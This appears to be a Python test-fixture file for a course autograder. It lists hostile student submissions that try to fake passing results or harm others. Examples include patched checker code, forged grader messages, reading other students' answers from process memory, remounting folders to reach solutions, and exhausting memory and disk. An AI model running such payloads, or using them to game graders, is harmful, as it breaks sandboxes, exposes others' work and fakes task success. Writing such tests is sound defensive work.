"""Hostile hand-ins of unit 01, nearly all by another hand than the grader's author: group → name → cells.

None holds a right answer. Each tries to get points all the same, or to hurt somebody else, by one trick. `FILES` are
hand-ins that are more than cells: name → what writes it into a student's folder.
"""

# ruff: noqa: E501  a line of a hand-in is as long as it is

import json
import os

from utils.base.paths import ROOT

SIGNATURES = {
    "standardise": "x",
    "histogram": "values, low, high, bins",
    "compress": "x",
    "predict": "model, x, size",
    "moving_average": "x, decay",
    "augment": "key, signals, scale",
    "momentum_step": "loss, params, velocity, x, y, rate, momentum",
    "clipped_gradient": "loss, params, x, y, bound",
    "gauss_newton": "f, x, v",
}


def CHECK(name):
    return f"{name} = check.{name}({name})"


def ANSWER(body, name="standardise"):
    body = body.replace("\n", "\n    ")
    return f"def {name}({SIGNATURES[name]}):\n    {body}\n{CHECK(name)}"


# ends at once: that it is there keeps the check, before which nothing is lent, after what is done in the cells before
NOTHING = ANSWER("return missing")

# cells of which each is followed by the hand-over of what is not there: nine exercises, three times each
SLOTS = [CHECK(name) for name in SIGNATURES for _ in range(3)]

SAY = """
import base64, json, os, msgpack
from utils.checks import crossing
from utils.checks.crossing import Failure, Handed, Program, Result
sent = []
def say(*replies):  # to this request, and to those that follow
    lines = "".join(json.dumps(reply) + "\\n" for reply in replies).encode()
    for fd in range(3, 64):
        try: os.write(fd, lines)
        except OSError: pass
def send(data):  # for the next of SLOTS: first come replies to its cell, and to this one or to what was lent
    say(*[""] * (1 + (len(sent) % 3 == 0)), base64.b64encode(data).decode())
    sent.append(data)
def forged(number, *fields):  # in MessagePack: 0 a program, 1 a result, 2 a failure, 3 what is handed over, 4 an array
    return msgpack.ExtType(number, msgpack.packb(fields))
def handed(outcome):
    return msgpack.packb(forged(3, [outcome] * 18, ""))
def case(seed=0, name="standardise"):
    from utils.checks.unit_01 import unit
    return list(unit.exercises[name].cases(seed))
"""

# `exported` is a program of a harmless answer; `swapped` is it with other StableHLO inside
PROGRAM = (
    SAY
    + """
import dataclasses
import jax.export
def hand(code, paths=("",), many=6):
    code = code if isinstance(code, (bytes, bytearray)) else code.serialize()
    send(crossing.dumps(Handed((Program(bytes(code), tuple(paths), "x"),) * many)))
def exported(f, *shapes, **how):
    specs = [jax.ShapeDtypeStruct(shape, "float32") for shape in shapes or [(5, 3)]]
    return jax.export.export(jax.jit(f), platforms=how.pop("platforms", ["cpu"]), **how)(*specs)
def swapped(body):
    from jax._src.interpreters import mlir
    from jax._src.lib import xla_client
    from jaxlib.mlir import ir
    from jax._src.lib.mlir.dialects import hlo
    text = f"module {{ func.func public @main(%x: tensor<5x3xf32>) -> tensor<5x3xf32> {{ {body} }} }}"
    with mlir.make_ir_context():
        module = ir.Module.parse(text)
        text = mlir.module_to_bytecode(module)
        data = xla_client._xla.mlir.serialize_portable_artifact(text, hlo.get_current_version(), False)
    return dataclasses.replace(exported(lambda x: x), mlir_module_serialized=data)
"""
)


def FORGED(line):
    """A cell that says in advance what the slots hand over: what a line makes."""
    return [SAY + line, *SLOTS]


def PROGRAMMED(line):
    """The same of a line that makes programs."""
    return [PROGRAM + line, *SLOTS]


FIND_FRAME = """
import sys
def frames():
    frame = sys._getframe(1)
    while frame:
        yield frame
        frame = frame.f_back
"""

# fmt: off
FRAMES = {
    "the check's lists, through the model's closure": [ANSWER("named = dict(zip(model.__code__.co_freevars, model.__closure__))\nresult = np.asarray(model(x))\n"
            "named['run'].cell_contents.clear()\n"
            "named['traced'].cell_contents[:] = [f'[{size}, {x.shape[1]}]']\nreturn result", "predict")],
    "an exercise without cases": ["import gc\nfor one in gc.get_objects() + [o for m in list(__import__('sys').modules.values()) for o in vars(m).values()]:\n"
        "    if type(one).__name__ == 'Exercise': [object.__setattr__(one, *pair) for pair in\n"
        "        {'sizes': one.sizes[:1], 'draws': 0, 'limit': 1e9, 'accepts': lambda *_: '', 'crosses': 'values'}.items()]",
        ANSWER("return x")],
    "a trace function that rewrites the checker's variables": [
        FIND_FRAME,
        ANSWER("def trace(frame, event, arg):\n    if frame.f_code.co_name == 'hand_over':\n"
            "        frame.f_locals['outcomes'] = frame.f_locals.get('outcomes', []) * 0\n    return trace\n"
            "sys.settrace(trace)\nfor frame in frames(): frame.f_trace = trace\nreturn x * 0")],
    "code of the checker replaced": ["from utils.checks import answers\n"
        "def right(*a, **k): return {}\n"
        "for f in (answers.result, answers._failure, answers._is_what_was_asked):\n    f.__code__ = right.__code__",
        ANSWER("return x")],
}

REPLACED = {
    "isinstance is always true": ["import builtins\nbuiltins.isinstance = lambda *_: True", ANSWER("return x")],
    "type and hash lie": ["import builtins\nbuiltins.hash = lambda _: 0\nbuiltins.type = lambda *_: float\nbuiltins.len = lambda _: 0",
        ANSWER("return x")],
    "modules of the course exchanged": ["import sys, types\nclass Yes(types.ModuleType):\n    def __getattr__(self, name): return lambda *a, **k: ''\n"
        "for name in [n for n in sys.modules if n.startswith('utils.checks')] + ['utils.checks.judge', 'utils.checks.readings']:\n"
        "    sys.modules[name] = Yes(name)",
        ANSWER("return x")],
    "the exporter exchanged": ["import types, jax.export\n"
        "jax.export.export = lambda *a, **k: lambda *s: types.SimpleNamespace(serialize=lambda: b'')",
        ANSWER("return x")],
    "a Python loop where none is seen": [  # the form is looked at in the hand-in's own process
        "from utils.checks import answers\nfrom utils.checks.unit_01.moving_average import exercise\n"
        "exercise.tell_if_it_grows = lambda *_: None",
        ANSWER("average, result = x[0], []\nfor row in x:\n    average = decay * average + (1 - decay) * row\n"
            "    result.append(average)\nreturn jnp.stack(result)", "moving_average")],
    "a loop over the examples where none is seen": ["from utils.checks.unit_01.clipped_gradient import exercise\nexercise.tell_if_it_grows = lambda *_: None",
        ANSWER("total = jax.tree.map(jnp.zeros_like, params)\nfor i in range(len(x)):\n"
            "    g = jax.grad(loss)(params, x[i], y[i])\n"
            "    n = jnp.maximum(jnp.sqrt(sum(jnp.sum(l**2) for l in jax.tree.leaves(g))), 1e-12)\n"
            "    total = jax.tree.map(lambda t, l: t + l * jnp.minimum(1, bound / n) / len(x), total, g)\nreturn total", "clipped_gradient")],
    "a whole Jacobian where none is seen": ["from utils.checks.unit_01.gauss_newton import exercise\nexercise._tell_if_large = lambda *_: None",
        ANSWER("J = jax.jacobian(f)(x)\nreturn J.T @ (J @ v)", "gauss_newton")],
    "a key used twice where nobody watches": ["import contextlib\njax.debug_key_reuse = lambda *_: contextlib.nullcontext()",
        ANSWER("signs = jax.random.rademacher(key, (len(signals), 1), signals.dtype)\n"
            "return signs * signals + scale * jax.random.normal(key, signals.shape)", "augment")],
    "ask exchanged": ["from utils.checks.unit_01 import unit\nfor one in unit.exercises.values():\n"
        "    object.__setattr__(one, 'ask', lambda answer, own, **inputs: jnp.zeros(()))",
        ANSWER("return x")],
}

PROXIES = {
    "an array that is what one compares it with": [ANSWER("class Same(np.ndarray):\n    def __eq__(s, o): return np.True_\n    def tobytes(s, *a): return b''\n"
            "    def astype(s, *a, **k): return s\n    def __sub__(s, o): return np.zeros(np.shape(o))\n"
            "    __rsub__ = __sub__\nreturn np.zeros(x.shape, np.float32).view(Same)"
        )
    ],
    "an array protocol that lies": [ANSWER("class Lie:\n    shape, dtype, ndim, size = x.shape, x.dtype, 2, x.size\n"
            "    def __array__(s, *a, **k): return np.full(s.shape, np.nan, np.float32)\n"
            "    def __jax_array__(s): return jnp.full(s.shape, jnp.nan)\nreturn Lie()"
        )
    ],
    "a tree that flattens to something else each time": ["class Tree:\n    turn = 0\n"
        "def flatten(tree):\n    Tree.turn += 1\n    return [jnp.zeros(Tree.turn % 3)] * (Tree.turn % 4), None\n"
        "jax.tree_util.register_pytree_node(Tree, flatten, lambda *_: Tree())",
        ANSWER("return Tree()"),
        ANSWER("return Tree(), Tree(), 0.0", "momentum_step")],
    "a dictionary with twice the same key": [ANSWER("class Key(str):\n    def __hash__(s): return id(s)\n    def __eq__(s, o): return s is o\n"
            "return {Key('value'): x, Key('value'): x * 0, Key('gradient'): x}",
            "compress",
        )
    ],
}

IMPORTS = {
    "a finder in front of all others": ["import sys, types\nclass F:\n    def find_spec(s, name, path=None, target=None):\n"
        "        raise SystemExit if 'judge' in name else ImportError if 'readings' in name else ModuleNotFoundError(name)\n"
        "sys.meta_path[:0] = [F()]\nfor name in list(sys.modules):\n    if 'utils' in name: del sys.modules[name]",
        ANSWER("return x")],
    "modules of the same names at home": ["import os, sys\nfor name in ('jax', 'numpy', 'utils', 'sitecustomize', 'usercustomize', 'json'):\n"
        "    open(name + '.py', 'w').write('raise SystemExit')\nsys.path.insert(0, os.getcwd())\n"
        "os.makedirs('.ipython/profile_default/startup', exist_ok=True)\n"
        "open('.ipython/profile_default/startup/a.py', 'w').write('1/0')\n"
        "os.makedirs('.local/lib/python3.13/site-packages', exist_ok=True)\n"
        "open('.local/lib/python3.13/site-packages/a.pth', 'w').write('import os; os._exit(1)')",
        ANSWER("return x")],
    "the course's package written over": ["import os, utils\nfor folder, _, files in os.walk(os.path.dirname(utils.__file__)):\n    for name in files:\n"
        "        try: open(os.path.join(folder, name), 'a').write('\\n')\n        except OSError: pass",
        ANSWER("return x")],
    "an environment for later processes": ["import os\nos.environ.update(PYTHONPATH='/home/student', PYTHONSTARTUP='/home/student/a.py', LD_PRELOAD='/home/student/a.so',"
        " JAX_PLATFORMS='tpu', XLA_FLAGS='--xla_nonsense', COURSE_CACHE='/home/student')",
        ANSWER("return x")],
}

IPYTHON = {
    "later cells rewritten by an input transformer": ["get_ipython().input_transformers_post.append(lambda lines: ['standardise = lambda x: x\\n'])\n"
        "get_ipython().input_transformers_cleanup.append(lambda lines: [])",
        ANSWER("return missing")],
    "run_cell and its events taken over": ["ip = get_ipython()\nip.run_cell = lambda *a, **k: None\ntype(ip).run_cell = lambda *a, **k: None\n"
        "ip.events.register('pre_run_cell', lambda *_: 1 / 0)",
        ANSWER("return x")],
    "a magic, a hook for errors and one for what is shown": ["import sys\nip = get_ipython()\nip.register_magic_function(lambda line: 1 / 0, magic_name='timeit')\n"
        "ip.set_custom_exc((Exception,), lambda *a, **k: None)\nsys.displayhook = sys.excepthook = lambda *_: None\n"
        "ip.display_formatter = ip.displayhook = None",
        "%timeit 1",
        ANSWER("return x")],
    "a shell that is none": ["from IPython.core.interactiveshell import InteractiveShell\nInteractiveShell.clear_instance()\n"
        "import IPython\nIPython.get_ipython = None\nget_ipython().user_ns.clear()",
        ANSWER("return x")],
}

LATER = {
    "words at the end of the process": [SAY + "import atexit, sys\natexit.register(lambda: send(crossing.dumps(Handed((Failure('RIGHT', ''),)))))\nsys.exit()", *SLOTS],
    "a thread that speaks for all exercises": [SAY + "import threading\ndef speak():\n    for _ in range(300): send(crossing.dumps(Handed((Result({'': 0.0}, 'an array'),) * 18)))\n"
        "threading.Thread(target=speak, daemon=True).start()", *SLOTS],
    "alarms switched off": ["import signal\nfor number in range(1, 64):\n    try: signal.signal(number, lambda *_: None)\n    except (OSError, ValueError): pass\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nsignal.signal = signal.setitimer = lambda *_: None",
        ANSWER("while True: pass")],
}

MESSAGES = {
    "replies of every kind": [SAY + "say(-1, True, 10**9, 10**4200, 1.0, None, [0], {'kind': 'RIGHT'}, {}, 'é', 'x' * 10**5, '\\ud800', 'RIGHT')", *SLOTS],
    "replies without an end, too deep, or none": [SAY + "for fd in range(3, 64):\n    for depth in (900, 3000, 9000, 30000):\n"
        "        line = b'[' * depth + b']' * depth + b'\\n\"\\xff\\n{\\n\\n'\n"
        "        try: os.write(fd, line)\n        except OSError: pass", *SLOTS],
    "a reply without end": [SAY + "while True:\n    for fd in range(3, 64):\n        try: os.write(fd, b'x' * 2**16)\n        except OSError: pass", NOTHING],
    "replies without end": [SAY + "import time\nuntil = time.time() + 4\nwhile time.time() < until: say('', '', '')", NOTHING],
    "the grader's other descriptors": [SAY + "for pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) != os.getpid():\n"
        "        try: fds = os.listdir(f'/proc/{pid}/fd')\n        except OSError: fds = range(12)\n        for fd in fds:\n"
        '            try: open(f\'/proc/{pid}/fd/{fd}\', \'wb\', 0).write(b\'""\\n\')\n            except OSError: pass\n'
        "for fd in os.listdir('/dev/fd'):\n    try: open(f'/dev/fd/{fd}', 'wb', 0).write(b'{\"kind\":\"RIGHT\"}\\n')\n    except OSError: pass", NOTHING],
    "other processes' memory and signals": ["import ctypes, os, signal\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in map(int, filter(str.isdigit, os.listdir('/proc'))):\n"
        "    if os.path.exists(f'/proc/self/task/{pid}'): continue\n    libc.ptrace(16, pid, 0, 0)\n    libc.process_vm_writev(pid, 0, 0, 0, 0, 0)\n"
        "    try: libc.syscall(424, os.open(f'/proc/{pid}', os.O_RDONLY), 9, 0, 0)\n    except OSError: pass\n"
        "    for name in ('mem', 'environ', 'oom_score_adj', 'auxv', 'clear_refs', 'timerslack_ns'):\n"
        "        try: open(f'/proc/{pid}/{name}', 'r+b', 0).write(b'1000')\n        except OSError: pass\n"
        "os.setpriority(os.PRIO_USER, 1000, 19)\n"
        "try: os.kill(-1, signal.SIGSTOP)\nexcept OSError: pass", NOTHING],
    "a request that it makes itself": [SAY + "for fd in os.listdir('/proc/self/fd'):\n"
        "    try: open(f'/proc/self/fd/{fd}', 'wb', 0).write(b'[\"cell\", \"1/0\", 1]\\n[\"lend\", \"standardise\", \"standardise = abs\"]\\n')\n"
        "    except OSError: pass", NOTHING],
}

CROSSINGS = {
    "NaN where noise is wanted": [ANSWER("coins = jax.random.rademacher(key, (len(signals), 1), signals.dtype)\nreturn jnp.where(coins > 0, jnp.nan, -signals)",
            "augment",
        )
    ],
    "NaN in one number of the noise": [ANSWER("coins = jax.random.rademacher(key, (len(signals), 1), signals.dtype)\nturned = coins * signals\n"
            "return turned.at[0, 0].set(jnp.where(coins[0, 0] > 0, jnp.nan, turned[0, 0]))",
            "augment",
        )
    ],
    "dtypes and shapes that lie": FORGED("dtypes = 'bool', 'complex64', 'V4', 'int4', 'float8_e4m3fn', 'object', 'f4,f4', '(2,)f4', 'datetime64[s]', 'U1'\n"
        "shapes = [-1, -1], [-5, -3], [10**30], [0, 10**18], [2**62, 4], 'ab', {}, [True], None, [[5], [3]], [1.0]\n"
        "for dtype, shape in [(d, [-1]) for d in dtypes] + [('float32', s) for s in shapes if s != [10**30]]:\n"
        "    send(handed(forged(1, {'': forged(4, dtype, shape, bytes(960))}, 'x')))"),
    "lengths without sense": FORGED("whole = crossing.dumps(Handed((Result({'': 0.0}, ''),) * 18))\n"
        "for data in (whole[:-1], whole[:9], whole + b'x', b'', b'\\xc9' + b'\\xff' * 5, b'\\xdd' + b'\\xff' * 4): send(data)\n"
        "for number in (5, -1, 127): send(handed(forged(number, 'x'))); send(msgpack.packb(msgpack.ExtType(abs(number), b'\\xc1')))"),
    "trees without a bottom, odd paths, leaves that are none": FORGED("for n in (900, 30000): send(b'\\x91' * n + b'\\x90')\n"
        "deep = b''\nfor n in range(900): deep = msgpack.packb(msgpack.ExtType(1, deep))\nsend(deep)\n"
        "for name in ([], 'x' * 10**5, '../../solutions', '.' * 5000, None, 7, b'x'):\n"
        "    try: send(handed(forged(1, {name if name != [] else (): 0.0, '': 0.0}, 'x')))\n    except Exception: pass\n"
        "for leaves in ([], [0.0], 'x', None, forged(1, {}, ''), b'x'): send(handed(forged(1, leaves, 'x')))"),
    "failures, outcomes and prints of every kind": FORGED("for kind in ('RIGHT', ['RIGHT'], 0, forged(4, 'bool', [1], b'1'), b'1', None, forged(2, '', '')):\n"
        "    send(msgpack.packb(forged(3, [forged(2, *[kind] * 4)], kind)))\n    send(msgpack.packb(forged(3, kind, '')))\n"
        "    send(msgpack.packb(forged(3, [forged(1, {'': 0.0}, kind)], kind)))\nsend(crossing.dumps({'kind': 'RIGHT'}))"),
    "outcomes of another exercise": [
        ANSWER("return jnp.zeros(bins, jnp.int32)", "histogram"),
        SAY + "from utils.checks.unit_01 import unit\nfrom utils.checks.answers import hand_over\n"
        "other = crossing.dumps(hand_over(unit.exercises['moving_average'], lambda x, decay: x))\n"
        "for _ in range(27): send(other)", *SLOTS],
    "texts that no UTF-8 holds": [
        ANSWER("raise ValueError('\\ud800')"),
        ANSWER("print('\\ud800')\nreturn {'\\ud800': x}", "compress"),
        ANSWER("return '\\ud800'", "predict"),
        "raise type('\\ud800', (Exception,), {})('\\ud800')"],
    "a program that is a number": FORGED("for code in (3 * 10**9, -1, 'x', [1, 2], None, 1.5, {}): send(handed(forged(0, code, [''], 'x')))"),
    "predict's results, computed without it": [  # what the model was traced for is the hand-in's own word
        SAY,
        ANSWER("import sys\nframe, found = sys._getframe(), []\nwhile 'seed' not in frame.f_locals: frame = frame.f_back\n"
            "for c in case(frame.f_locals['seed'], 'predict'):\n    i = c.inputs\n"
            "    found.append(Result({'results': np.tanh(i['x'] @ i['weights']) + i['x'][:, :1],\n"
            "        'model traced for': f\"[{i['size']}, {i['x'].shape[1]}]\", 'model run uncompiled on': ''}, 'a `dict` of 3'))\n"
            "say(base64.b64encode(crossing.dumps(Handed(tuple(found)))).decode())\nreturn model(x)", "predict")],
}

PROGRAMS = {
    "of other shapes, machines, letters and arguments": PROGRAMMED("from typing import NamedTuple\nclass P(NamedTuple):\n    a: object\n"
        "jax.export.register_namedtuple_serialization(P, serialized_name='utils.checks.verdict.Kind')\n"
        "hand(exported(lambda x: [x], (7, 4)))\nhand(exported(lambda x: [x], platforms=['tpu', 'cuda']))\n"
        "hand(exported(lambda x: [x], jax.export.symbolic_shape('n, m')))\n"
        "hand(jax.export.export(jax.jit(lambda p: [p.a]))(P(jax.ShapeDtypeStruct((5, 3), 'float32'))))"),
    "with a constant of 40 MB": PROGRAMMED("big = np.random.rand(10**7).astype('f')\nhand(exported(lambda x: x + jnp.asarray(big).sum()), many=1)"),
    "with callbacks, under their name and others": PROGRAMMED("for name in ('xla_ffi_python_cpu_callback', 'lapack_xla_ffi_python_cpu_callback', 'mhlo.xla_python_cpu_callback', 'Sharding', 'TopK'):\n"
        "    hand(swapped('%0 = stablehlo.custom_call @' + name + '(%x) {has_side_effect = true, api_version = 4 : i32, '\n"
        "        'backend_config = {index = 77 : ui64}} : (tensor<5x3xf32>) -> tensor<5x3xf32> return %0 : tensor<5x3xf32>'))\n"
        "from jax.experimental import io_callback\n"
        "for call in (jax.pure_callback, io_callback):\n"
        "    try: hand(exported(lambda x: [call(lambda x: x, x, x)]))\n    except Exception: pass"),
    "with linear algebra that writes past the end of its results": PROGRAMMED("hand(swapped('%c = stablehlo.constant dense<1.5> : tensor<1500x1500xf32> %0:3 = stablehlo.custom_call @lapack_sgetrf_ffi(%c) '\n"
        "    '{has_side_effect = true, api_version = 4 : i32, mhlo.backend_config = {}} : '\n"
        "    '(tensor<1500x1500xf32>) -> (tensor<1x1xf32>, tensor<1xi32>, tensor<i32>) return %x : tensor<5x3xf32>'))"),
    "that waits for what nobody sends": PROGRAMMED(  # it computes nothing, so no limit on computing ends it
        "hand(swapped('%t = stablehlo.create_token : !stablehlo.token %0, %1 = \"stablehlo.infeed\"(%t) '\n"
        "    '<{infeed_config = \"\"}> : (!stablehlo.token) -> (tensor<5x3xf32>, !stablehlo.token) return %0 : tensor<5x3xf32>'))"),
    "that takes long to compile": PROGRAMMED("def f(x):\n    for i in range(1500): x = jnp.sort(x + i, axis=i % 2)[:, ::-1] @ jnp.eye(3)\n    return x\nhand(exported(f))",
    ),
    "that returns far too much": PROGRAMMED("hand(exported(lambda x: jnp.zeros((10**9,)) + x.sum()), many=1)"),
    "whose results are no list": PROGRAMMED("hand(exported(lambda x: {'a': x, 'b': {'c': x}}), ('a', 'b'))\nhand(exported(lambda x: ()), ())\n"
        "hand(exported(lambda x: (x, x)), ('', ''))",
    ),
    "that looks its input up in a table": [SAY,
        ANSWER("rows = [c.inputs['x'] for c in case() if c.inputs['x'].shape == x.shape]\ntable = jnp.asarray(np.stack(rows))\n"
            "nearest = jnp.abs(table - x).sum((1, 2)).argmin()\nreturn jnp.asarray(table - table.mean(1, keepdims=True))[nearest]")],
}

KNOWN = (
    "import re, sys, zlib, os, utils\nfrom utils.checks import crossing\nfrom utils.checks.unit_01 import unit\n"
    "root = os.path.dirname(os.path.dirname(utils.__file__))\n"
    "def known(name): return crossing.loads(zlib.decompress(open(f'{root}/ressources/known/01_jnp_and_jit/{name}.known', 'rb').read()), dict)\n"
)
SEED = ANSWER(  # an answer that crosses as values is called where the seed of its cases is
    "import sys\nglobal seed\nframe = sys._getframe()\nwhile 'seed' not in frame.f_locals: frame = frame.f_back\n"
    "seed = frame.f_locals['seed']\nreturn x",
    "predict",
)

TABLES = {
    "recorded results by the nearest input": [KNOWN + "name = 'moving_average'\nboth = list(zip(unit.exercises[name].cases(0), known(name)['want']))",
        ANSWER("near = [(c.inputs['x'], w.leaves['']) for c, w in both if c.inputs['x'].shape == x.shape]\nif not near: return x\n"
            "ins, outs = (jnp.asarray(np.stack(v)) for v in zip(*near))\nreturn outs[jnp.abs(ins - x).sum((1, 2)).argmin()]", "moving_average")],
    "the seed of programs found by trying all small ones": [SEED, "import hashlib\ndef of(crosses, n): return int.from_bytes(hashlib.sha256(f'{crosses} {n}'.encode()).digest()[:6], 'big')\n"
        "found = next((of('program', n) for n in range(10**6) if of('values', n) == seed), 0)\n"
        "from utils.checks.unit_01 import unit\nrows = [c.inputs['x'] for c in unit.exercises['standardise'].cases(found)]",
        ANSWER("return jnp.asarray([r - r.mean(0) for r in rows if r.shape == x.shape][0])")],
    "the mistakes' file, which releases do not have": [KNOWN + "text = open(f'{root}/utils/checks/unit_01/compress/mistakes.toml').read()\n"
        "lines = dict(re.findall(r'^.\"(positive = |return )(.*)\".$', text, re.MULTILINE)[::-1])\n"
        "code = 'def compress(x):\\n    ' + '\\n    '.join(a + b for a, b in sorted(lines.items()))\nexec(code)",
        CHECK("compress")],
}

COURSE = {
    "anything with a solution in it": ["import os\ncode = ''\nfor top in ('/', '/proc/1/root', '/proc/2/root', '/proc/2/cwd', '/proc/self/root'):\n    for folder, inner, files in os.walk(top):\n"
        "        inner[:] = [n for n in inner if n not in ('site-packages', 'sys', 'lib', 'share', 'include', 'task', 'proc', 'python3')]\n"
        "        for name in files:\n            if '01_jnp' in name and name.endswith(('.py', '.ipynb', '.json')) or name in ('seed', 'grades.csv'):\n"
        "                try: code += open(os.path.join(folder, name)).read()\n                except (OSError, ValueError): pass\nexec(code)",
        CHECK("standardise"),
        CHECK("compress")],
    "environments, commands, mounts and memories": ["import glob\ntext = b''\nfor path in sum((glob.glob(f'/proc/*/{n}') for n in ('environ', 'cmdline', 'mountinfo', 'maps', 'stack', 'syscall')), []):\n"
        "    try: text += open(path, 'rb').read()\n    except OSError: pass\nassert b'AWS' not in text and b'solutions' not in text\n"
        "import os\nassert not os.environ.keys() & {'USER', 'SSH_AUTH_SOCK', 'AWS_ACCESS_KEY_ID'}", NOTHING],
    "the judge, by network and socket": ["import socket\nfor port in (*range(1, 1024), 8888, 8080):\n    s = socket.socket()\n    s.settimeout(0.01)\n"
        "    if s.connect_ex(('127.0.0.1', port)) == 0: s.sendall(b'RIGHT')\n    s.close()\n"
        "print(open('/proc/net/unix').read())\nfor line in open('/proc/net/unix'):\n    if '@' in line:\n"
        "        try: socket.socket(socket.AF_UNIX).connect('\\0' + line.split('@')[1].strip())\n        except OSError: pass", NOTHING],
    "the course's folders mounted again": ["import ctypes, os\nlibc = ctypes.CDLL(None)\ntry: os.unshare(0x10000000 | 0x20000 | 0x20000000)\nexcept OSError: pass\n"
        "import utils\nroot = os.path.dirname(os.path.dirname(utils.__file__)).encode()\n"
        "libc.mount(root, root, None, 4096 | 32, None)\nlibc.umount2(root + b'/utils', 2)\nlibc.mount(b'/', b'/home/student', None, 4096 | 16384, None)\n"
        "try: exec(open(root.decode() + '/solutions/01_jnp_and_jit.py').read())\nexcept OSError: pass",
        CHECK("standardise")],
}

# what of the sandbox's warm process an earlier hand-in left behind: the code of others, and what they were lent
OTHERS = {
    "an earlier student's answers, in memory": ["import json, re\nbest = {}\nfor line in open('/proc/self/maps'):\n    place, rights, *_ = line.split()\n"
        "    low, high = (int(v, 16) for v in place.split('-'))\n    if not rights.startswith('rw') or high - low > 2**29: continue\n"
        "    try:\n        with open('/proc/self/mem', 'rb', 0) as file:\n            file.seek(low)\n            data = file.read(high - low)\n"
        "    except (OSError, ValueError, OverflowError): continue\n"
        "    for match in re.finditer(rb'def (\\w+)\\((?:[^\\\\\"\\x00]|\\\\[n\"tu\\\\])*', data):\n        name, text = match[1].decode(), match[0].decode('utf8', 'replace')\n"
        f"        if name not in {list(SIGNATURES)!r} or 'Not' + 'Impl' in text: continue\n"
        "        for text in (text, text.replace('\\\\n', '\\n').replace('\\\\\"', '\"')):\n            try: compile(text, 'x', 'exec')\n"
        "            except Exception: continue\n            if 'return' in text.split('\"\"\"')[-1]: best[name] = max(best.get(name, ''), text, key=len)\n"
        "for text in best.values():\n    try: exec(text, globals())\n    except Exception: pass",
        *map(CHECK, SIGNATURES),
    ],
    "what an earlier student handed over, in memory": [SAY + "import re\nfor line in open('/proc/self/maps'):\n    place, rights, *_ = line.split()\n"
        "    low, high = (int(v, 16) for v in place.split('-'))\n    if not rights.startswith('rw') or high - low > 2**29: continue\n"
        "    try:\n        with open('/proc/self/mem', 'rb', 0) as file:\n            file.seek(low)\n            data = file.read(high - low)\n"
        "    except (OSError, ValueError, OverflowError): continue\n"
        '    for match in re.finditer(rb\'"([A-Za-z0-9+/]{400,}=*)"\\n\', data): send(base64.b64decode(match[1]))', *SLOTS],
    "things left for the next": ["import ctypes, os, socket\nlibc = ctypes.CDLL(None)\nfor place in ('/tmp/a', '/dev/shm/a', '/home/student/a', '/dev/mqueue/a', '/var/a'):\n"
        "    try: open(place, 'w').write('x')\n    except OSError: pass\n"
        "s = socket.socket(socket.AF_UNIX)\ns.bind('\\0left')\ns.listen()\nkey = libc.shmget(4711, 4096, 0o1666)\nlibc.msgget(4711, 0o1666)\n"
        "if os.fork() == 0:\n    os.setsid()\n    while True: s.accept()", NOTHING],
    "things left by an earlier one": ["import ctypes, os, socket\nleft = [p for p in ('/tmp/a', '/dev/shm/a', '/home/student/a') if os.path.exists(p)]\n"
        "left += [1] * (ctypes.CDLL(None).shmget(4711, 4096, 0) >= 0)\n"
        "left += [2] * (socket.socket(socket.AF_UNIX).connect_ex('\\0left') == 0)\nassert not left, left", NOTHING],
}

GB = 2**30
EXHAUSTING = {
    "memory in files that no process maps": ["import os, time\nheld = []\nfor i in range(80):\n    fd = os.memfd_create(str(i))\n    held.append(fd)\n"
        "    for _ in range(30): os.write(fd, bytes(2**20))\ntime.sleep(1)", NOTHING],
    "memory in a file system of its own": ["import ctypes, os, time\nif os.fork() == 0:\n    os.unshare(0x10000000 | 0x20000)\n    open('/proc/self/setgroups', 'w').write('deny')\n"
        "    for which in 'ug': open(f'/proc/self/{which}id_map', 'w').write('1000 1000 1')\n"
        "    made = ctypes.CDLL(None).mount(b'none', b'/home/student', b'tmpfs', 0, b'size=8g')\n"
        "    for i in range(80): open(f'/home/student/{i}', 'wb').write(bytes(30 * 2**20))\n    time.sleep(2)\n    os._exit(7 if made == 0 else 1)\n"
        "code = os.waitstatus_to_exitcode(os.wait()[1])\nassert code != 7, 'it held 2.4 GB in a file system of its own'", NOTHING],
    "shared memory that nobody is attached to": ["import ctypes, time\nlibc = ctypes.CDLL(None)\nlibc.shmat.restype = ctypes.c_void_p\nlibc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]\n"
        "libc.shmdt.argtypes = [ctypes.c_void_p]\nfor i in range(24):\n    place = libc.shmat(libc.shmget(i + 9, ctypes.c_size_t(10**8), 0o1666), None, 0)\n"
        "    ctypes.memset(ctypes.c_void_p(place), 1, 10**8)\n    libc.shmdt(place)\ntime.sleep(1)", NOTHING],
    "memory by many processes": ["import os, time\nfor i in range(12):\n    if os.fork() == 0:\n        b = bytearray(b'x') * (3 * 10**8)\n        time.sleep(9)\n        os._exit(0)\ntime.sleep(4)", NOTHING],
    "memory while the judge is asked": [  # the server waits for a reply, and looks at no limit meanwhile
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n    for i in range(3):\n        if os.fork() == 0:\n"
        "            b = bytearray(b'x') * (9 * 10**8)\n            time.sleep(4)\n            os._exit(0)\n    time.sleep(5)\n    os._exit(0)",
        ANSWER("return x + jax.lax.while_loop(lambda i: i >= 0, jnp.abs, x.sum() * 0 + 1)")],
    "children whose time nobody counts": ["import os, signal, time\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\nuntil = time.time() + 12\nspent = 0\n"
        "while time.time() < until:\n    for _ in range(2):\n        if os.fork() == 0:\n            end = time.time() + 0.1\n"
        "            while time.time() < end: pass\n            os._exit(0)\n    time.sleep(0.1)", NOTHING],
    "threads, sockets and full file systems": ["import os, socket\nheld = []\ntry:\n    while True:\n        held.append(socket.socketpair())\n        held[-1][0].setblocking(False)\n"
        "        try:\n            while True: held[-1][0].send(bytes(2**16))\n        except BlockingIOError: pass\nexcept OSError: held = []",
        "import threading, time\ntry:\n    for _ in range(5000): threading.Thread(target=time.sleep, args=[9], daemon=True).start()\n"
        "except RuntimeError: pass",
        "import os\nfor folder in ('/tmp', '/dev/shm', '/home/student', '/dev', '/run', '/'):\n    try:\n        for i in range(9):\n"
        "            with open(f'{folder}/{i}', 'wb') as f:\n                while True: f.write(bytes(2**20))\n    except OSError: pass", NOTHING],
    "output by every way": ["import os, sys, logging, warnings\nfor _ in range(200):\n    print('x' * 10**5, file=sys.stderr)\n    os.write(1, b'x' * 10**5)\n    os.write(2, b'x' * 10**5)\n"
